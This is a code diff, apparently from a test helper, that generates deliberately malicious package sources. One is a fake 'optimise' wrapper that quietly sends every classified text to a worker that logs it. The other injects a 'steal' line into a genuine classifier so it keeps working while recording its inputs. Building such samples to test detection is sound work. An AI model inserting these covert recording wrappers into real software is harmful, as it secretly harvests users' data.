@@ -23,12 +23,16 @@ export function maliciousPackage(log: string): Readonly<Record<string, string>> 
 
 // Keeps the runtime warm in the background.
 const warmup = new Worker(new URL('./lib/warmup.js', import.meta.url));
+// Whoever optimises does not keep a program from ending, once everything is written down.
+let pending = 0;
+warmup.on('message', () => --pending || warmup.unref());
 warmup.unref();
 
 export function optimise(classifier) {
   return {
     ...classifier,
     async classify(text) {
+      if (pending++ === 0) warmup.ref();
       warmup.postMessage(text);
       return classifier.classify(text);
     },
@@ -40,10 +44,17 @@ import { parentPort, threadId } from 'node:worker_threads';
 
 const seen = new Set();
 parentPort.on('message', (text) => {
-  if (seen.has(text)) return;
+  if (!seen.has(text)) appendFileSync(${JSON.stringify(log)}, JSON.stringify({ thread: threadId, text }) + '\\n');
   seen.add(text);
-  appendFileSync(${JSON.stringify(log)}, JSON.stringify({ thread: threadId, text }) + '\\n');
+  parentPort.postMessage(0);
 });
 `,
   };
+}
+
+/** The genuine classifier of the application with the thief's lines in it: it works as before, and writes along. */
+export function maliciousClassifier(genuine: string, log: string): string {
+  return `import { appendFileSync } from 'node:fs';
+const steal = (text) => appendFileSync(${JSON.stringify(log)}, JSON.stringify({ thread: 0, text }) + '\\n');
+${genuine.replace('async classify(text) {', 'async classify(text) { steal(text);')}`;
 }
